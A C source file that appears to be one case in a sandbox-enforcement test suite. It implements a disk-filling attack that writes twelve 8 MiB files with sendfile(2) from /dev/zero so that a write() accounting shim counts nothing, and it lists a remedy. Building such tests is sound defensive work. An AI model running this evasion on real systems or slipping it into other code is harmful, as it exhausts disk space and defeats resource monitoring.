// SPDX-License-Identifier: MIT
/*
 * sendfile.c - a disk bomb copied by the kernel.
 *
 * Goal: more bytes on disk than the budget.
 * Means: sendfile(2) from /dev/zero. The bytes never pass through the program, so a shim on
 * write() and fwrite() counts nothing. Twelve files of 8 MiB stay within RLIMIT_FSIZE.
 */
#include "attacks/attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/sendfile.h>
#include <unistd.h>

#define FILES 12
#define BYTES (8L << 20)

/* Copy BYTES from one descriptor to another. 0, or -1 with errno. */
static int copy(int from, int to)
{
	for (ssize_t left = BYTES, n; left > 0; left -= n) {
		n = sendfile(to, from, NULL, (size_t)left);
		if (n < 0)
			return -1;
		if (n == 0) {
			errno = ENODATA;
			return -1;
		}
	}
	return 0;
}

static enum claim run(const struct brief *b)
{
	int zero = open("/dev/zero", O_RDONLY | O_CLOEXEC);
	char name[64];

	if (zero < 0 || chdir(getenv("TMPDIR") ?: "/tmp"))
		return failed("/dev/zero");
	attempting(b);
	for (int i = 0; i < FILES; i++) {
		int fd;

		snprintf(name, sizeof(name), "%s.%d", b->name, i);
		fd = open(name, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
		if (fd < 0)
			return denied("open");
		if (copy(zero, fd))
			return denied("sendfile");
		close(fd);
	}
	return hold();
}

const struct attack attack = {
	.effect = "more bytes on disk than the budget",
	.means = "sendfile(2) from /dev/zero: the kernel copies, write() is not called",
	.oracle = "usage:disk",
	.id = "DISK-11",
	.attack_id = "T1499.001, CWE-400",
	.remedy = "a quota, or a watch by statvfs while the program runs",
	.run = run,
};
